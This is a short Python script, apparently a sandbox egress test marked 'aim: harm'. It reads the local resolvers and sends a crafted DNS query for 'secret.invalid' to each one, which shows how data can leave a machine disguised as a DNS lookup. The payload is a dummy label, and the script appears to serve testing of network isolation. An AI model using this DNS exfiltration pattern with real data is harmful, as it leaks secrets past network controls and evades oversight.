# Carries data out of the machine in the name of a DNS query.
# aim: harm
# %% first
import socket

socket.setdefaulttimeout(3)
servers = ["127.0.0.1"]
try:
    servers += [w.split()[1] for w in open("/etc/resolv.conf") if w.startswith("nameserver")]
except OSError as error:
    print(error)
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07invalid\x00\x00\x01\x00\x01"
for server in servers:
    try:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(query, (server, 53))
            line.sendto(query, (server, int("@UDP@")))
            print("query sent to", server)
    except OSError as error:
        print(error)
try:
    print(socket.getaddrinfo("secret.invalid", 80))
except OSError as error:
    print(error)
